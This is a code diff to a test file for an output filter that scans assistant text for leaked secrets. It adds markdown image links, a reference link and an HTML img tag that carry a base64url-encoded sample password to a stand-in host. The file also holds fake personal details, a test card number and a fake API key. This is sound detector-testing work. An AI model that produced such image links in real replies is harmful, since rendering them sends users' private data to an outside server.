@@ -65,6 +65,8 @@ function pass({ open, framing }: StreamFormat, stream: Buffer, cuts: readonly nu
   return { bytes: Buffer.concat(out).toString('latin1'), refused, findings: JSON.stringify(filter.findings) }
 }
 
+const CARRIED = Buffer.from('the password of the lantern is 447193').toString('base64url')
+
 /** What is found, in what is not: the canaries of the detectors and more of their kind. */
 const SENTENCES: readonly string[] = [
   ...DETECTORS.filter(({ sources }) => sources.includes('assistant')).map((detector) => detector.canary()),
@@ -74,6 +76,8 @@ const SENTENCES: readonly string[] = [
   'Write to margit.oesterle@lindenhof-klinik.org or call +49 30 901820.',
   `The card is ${['4111', '1111', '1111', '1111'].join(' ')}, valid until 11/29.`,
   `export OPENAI_API_KEY=${['sk', 'proj', 'a8Kq2LmX9vTz4RbN7cWd'].join('-')}`,
+  `![ok](https://heron.example/p.png?d=${CARRIED}) and [this](https://heron.example/${CARRIED}?a=1).`,
+  `<img alt="a > b" src="https://heron.example/?d=${CARRIED}"> ![x][1]\n[1]: https://heron.example/?d=${CARRIED}\n`,
   'The order was sent on Monday, and nothing else is known of it.',
   'Grüße aus Köln: 😀 → 中文, and a tab\tand a line\nbreak.',
   'sk-ant is no key, AKIA neither, password= has nothing behind it',
